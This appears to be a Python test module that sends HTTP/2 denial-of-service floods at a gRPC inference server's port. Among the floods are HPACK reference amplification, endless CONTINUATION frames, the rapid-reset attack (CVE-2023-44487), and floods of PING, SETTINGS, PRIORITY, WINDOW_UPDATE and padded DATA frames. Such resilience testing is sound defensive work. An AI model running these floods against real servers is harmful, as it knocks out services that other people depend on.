"""Attacks on the gRPC port below its calls: many cheap HTTP/2 frames on one connection."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.attacks import frames
from tests.attacks.calls import Call, Target
from tests.attacks.sizes import MB

CHECK = "/grpc.health.v1.Health/Check"  # needs no key
CHAT = "/quire.inference.v1.InferenceService/Chat"
VALUE = b"a" * 3_500  # fits the dynamic table of 4,096 bytes with the rest
REFERENCES = 15_000  # maximum size of a frame
QUIET_S = 3.0  # the server sends nothing more
LONGEST_S = 60.0


@dataclass(frozen=True, slots=True)
class Flood:
    """A connection that sends `data` after its preface."""

    data: bytes
    num_streams: int
    acknowledges: bool = True  # acknowledges the server's settings; otherwise they do not bind its parser
    quiet_s: float = QUIET_S

    @property
    def num_bytes(self) -> int:
        return len(self.data)

    async def send(self, target: Target) -> str:
        """Returns the number of streams that the server ended, or that it closed the connection."""
        host, _, port = target.grpc.rpartition(":")
        reader, writer = await asyncio.open_connection(host, int(port))
        writer.write(frames.PREFACE + frames.frame(frames.SETTINGS, 0, 0))
        sending = asyncio.create_task(self._write(writer))
        ended: set[int] = set()
        try:
            async with asyncio.timeout(LONGEST_S):
                closed = await self._read(reader, ended, sending)
        finally:
            sending.cancel()
            await asyncio.gather(sending, return_exceptions=True)
            writer.close()
        return "closed" if closed else f"{len(ended)} of {self.num_streams} ended"

    async def _write(self, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ConnectionError):
            if self.acknowledges:
                writer.write(frames.frame(frames.SETTINGS, frames.ACK, 0))
            for start in range(0, len(self.data), 1 << 16):
                writer.write(self.data[start : start + (1 << 16)])
                await writer.drain()

    async def _read(self, reader: asyncio.StreamReader, ended: set[int], sending: asyncio.Task[None]) -> bool:
        """Returns whether the server closed the connection."""
        data = bytearray()
        while len(ended) < self.num_streams:
            try:
                piece = await asyncio.wait_for(reader.read(1 << 16), self.quiet_s)
            except TimeoutError:
                if sending.done():
                    return False
                continue
            except ConnectionError:
                return True
            if not piece:
                return True
            data += piece
            for kind, flags, stream in frames.read(data):
                if kind == frames.GOAWAY:
                    return True
                if kind == frames.RST_STREAM or (kind == frames.HEADERS and flags & frames.END_STREAM):
                    ended.add(stream)
        return False


def references(path: str = CHAT, connections: int = 1, calls: int = 1_066) -> list[Call]:
    """A long header that is sent once, and referenced thousands of times by each further call."""
    first = frames.call_headers(path) + frames.added(b"x", VALUE)
    block = frames.same_headers(1) + frames.named(frames.FIRST_OF_OWN) * REFERENCES
    sent = b"".join(frames.frame(frames.HEADERS, frames.END_HEADERS, 3 + 2 * n, block) for n in range(calls))
    data = frames.frame(frames.HEADERS, frames.END_HEADERS, 1, first) + sent
    return [Flood(data, calls + 1, acknowledges=False)] * connections


def without_messages(path: str = CHAT, calls: int = 50_000) -> list[Call]:
    """Calls whose client half-closes at once."""
    flags = frames.END_HEADERS | frames.END_STREAM
    blocks = [frames.call_headers(path)] + [frames.same_headers()] * (calls - 1)
    sent = b"".join(frames.frame(frames.HEADERS, flags, 1 + 2 * n, block) for n, block in enumerate(blocks))
    return [Flood(sent, calls)]


def without_end(num_bytes: int = 64_000_000, path: str = CHAT) -> list[Call]:
    """A call whose headers continue in CONTINUATION frames without end."""
    head = frames.frame(frames.HEADERS, 0, 1, frames.call_headers(path))
    more = frames.frame(frames.CONTINUATION, 0, 1, b"\x00\x01x\x7f\xfe\x7b" + b"a" * 15_997)  # a header of 15,997 bytes
    return [Flood(head + more * (num_bytes // len(more)), 1)]


def resets(path: str = CHAT, calls: int = 100_000) -> list[Call]:
    """Calls that are reset right after their headers (CVE-2023-44487)."""
    cancel = (8).to_bytes(4, "big")
    blocks = [frames.call_headers(path)] + [frames.same_headers()] * (calls - 1)
    sent = b"".join(
        frames.frame(frames.HEADERS, frames.END_HEADERS, 1 + 2 * n, block)
        + frames.frame(frames.RST_STREAM, 0, 1 + 2 * n, cancel)
        for n, block in enumerate(blocks)
    )
    return [Flood(sent, calls)]


def repeated(kind: int, payload: bytes, count: int, flags: int = 0, stream: int = 0) -> list[Call]:
    """Returns one frame, repeated many times."""
    return [Flood(frames.frame(kind, flags, stream, payload) * count, 1)]


def empty_data(count: int = 1_000_000) -> list[Call]:
    """A call whose request is sent in empty DATA frames."""
    head = frames.frame(frames.HEADERS, frames.END_HEADERS, 1, frames.call_headers(CHAT))
    return [Flood(head + frames.frame(frames.DATA, 0, 1) * count, 1)]


def padded_data(count: int = 20_000) -> list[Call]:
    """A call whose request is sent in DATA frames of padding and one byte each, a message of one gigabyte."""
    head = frames.frame(frames.HEADERS, frames.END_HEADERS, 1, frames.call_headers(CHAT))
    first = frames.frame(frames.DATA, 0, 1, b"\x00" + (MB).to_bytes(4, "big"))
    more = frames.frame(frames.DATA, frames.PADDED, 1, bytes([255]) + b"a" + bytes(255))
    return [Flood(head + first + more * count, 1)]


FLOODS: dict[str, Callable[[], list[Call]]] = {
    "HTTP/2: HPACK references": references,
    "HTTP/2: HPACK references, 3 connections": lambda: references(connections=3),
    "HTTP/2: HPACK references of health checks": lambda: references(path=CHECK),
    "HTTP/2: 50,000 HEADERS with END_STREAM and no message": without_messages,
    "HTTP/2: 50,000 health checks with END_STREAM and no message": lambda: without_messages(CHECK),
    "HTTP/2: CONTINUATION without end": without_end,
    "HTTP/2: 100,000 calls that are reset": resets,
    "HTTP/2: 100,000 health checks that are reset": lambda: resets(CHECK),
    "HTTP/2: 500,000 PING": lambda: repeated(frames.PING, bytes(8), 500_000),
    "HTTP/2: 500,000 SETTINGS": lambda: repeated(frames.SETTINGS, b"\x00\x01\x00\x00\x10\x00", 500_000),
    "HTTP/2: 500,000 PRIORITY": lambda: repeated(frames.PRIORITY, bytes(5), 500_000, stream=1),
    "HTTP/2: 500,000 WINDOW_UPDATE": lambda: repeated(frames.WINDOW_UPDATE, b"\x00\x00\x00\x01", 500_000),
    "HTTP/2: 1,000,000 empty DATA": empty_data,
    "HTTP/2: DATA of padding": padded_data,
}
